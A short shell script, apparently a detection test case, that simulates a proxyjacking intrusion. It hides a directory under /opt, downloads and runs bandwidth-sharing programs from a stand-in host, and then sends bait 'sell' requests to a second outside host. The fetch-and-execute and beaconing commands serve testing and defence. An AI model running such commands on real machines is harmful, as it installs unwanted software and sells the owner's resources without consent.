#!/bin/sh
. /opt/case/case.sh

mkdir -p /opt/.bw && cd /opt/.bw
for n in tm peer2profit bitping; do curl -s http://203.0.113.10/programs/beacon -o $n && chmod +x $n; done
(timeout 4 ./tm start accept --token bait== || true) & (timeout 4 ./peer2profit -email x@example.org || true) & (timeout 4 ./bitping --server || true) &
wait
for i in 1 2 3 4 5; do curl -s -m 2 -H "X-Node: bait" "http://198.51.100.5:8080/sell?n=$i" >/dev/null; done
took_place
